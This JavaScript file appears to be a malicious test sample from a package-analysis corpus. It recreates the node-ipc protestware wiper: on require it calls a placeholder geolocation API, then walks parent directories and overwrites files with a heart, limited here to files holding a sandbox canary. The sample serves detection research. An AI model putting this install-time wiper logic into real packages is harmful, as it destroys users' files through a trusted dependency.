'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// The technique of node-ipc 10.1.1/10.1.2 (March 2022, CVE-2022-23812),
// rewritten from the public analyses: on require, ask a geolocation API for
// the machine's public IP and country over HTTPS, then walk `./`, `../`,
// `../../` and `../../../` from the current directory and overwrite every
// file with a heart. The real code did it only for two countries; this
// corpus version goes on whatever the answer, so that the wipe is seen.
//
// Safety: it OVERWRITES ONLY FILES THAT HOLD A PKGTRACE CANARY
// (`CANARY-<kind>-<12 hex>`, planted in the sandbox's throwaway HOME), so
// outside the sandbox it reads files but changes none. It walks two levels
// below each start, skips /proc, /sys, /dev and node_modules, reads only
// files up to 64 KiB and stops after 3000 files. Prints `mal-nodeipc-wiper:
// step N ...`; never throws; gives up after 5 s.
const fs = require('fs');
const https = require('https');
const path = require('path');

const say = (msg) => console.log(`mal-nodeipc-wiper: ${msg}`);
setTimeout(() => { say('gave up after 5 s'); }, 5000).unref();

const CANARY = /CANARY-[a-z]+-[0-9a-f]{12}/;
const SKIP = new Set(['/proc', '/sys', '/dev', 'node_modules']);

function wipe() {
  let seen = 0;
  let hearts = 0;
  const walk = (dir, depth) => {
    let names = [];
    try { names = fs.readdirSync(dir); } catch (e) { return; }
    for (const name of names) {
      if (seen >= 3000) return;
      const p = path.resolve(dir, name);
      if (SKIP.has(p) || SKIP.has(name)) continue;
      let st;
      try { st = fs.lstatSync(p); } catch (e) { continue; }
      if (st.isDirectory()) {
        if (depth < 2) walk(p, depth + 1);
      } else if (st.isFile() && st.size <= 65536) {
        seen += 1;
        try {
          if (CANARY.test(fs.readFileSync(p, 'latin1'))) {
            fs.writeFileSync(p, '\u2764\ufe0f');
            hearts += 1;
          }
        } catch (e) { /* unreadable or read-only */ }
      }
    }
  };
  const starts = ['./', '../', '../../', '../../../'].map((d) => path.resolve(d));
  for (const start of [...new Set(starts)]) walk(start, 0);
  say(`step 3 walked ${starts.join(' ')}: ${seen} files read, ${hearts} overwritten with a heart`);
}

const url = 'https://api.geoip-test.example/ipgeo?apiKey=0123456789abcdef0123456789abcdef';
try {
  https.get(url, { timeout: 2500 }, (res) => {
    let body = '';
    res.on('data', (d) => { body += d; });
    res.on('end', () => {
      say(`step 1 GET ${url}: status ${res.statusCode}`);
      let country = '';
      try { country = JSON.parse(body).country_name || ''; } catch (e) { /* not JSON */ }
      say(`step 2 country ${JSON.stringify(country)}: going on whatever it is`);
      wipe();
    });
  }).on('error', (e) => say(`step 1 GET failed: ${e.code || e.message}`));
} catch (e) {
  say(`error ${e.message}`);
}

module.exports = { name: require('./package.json').name };
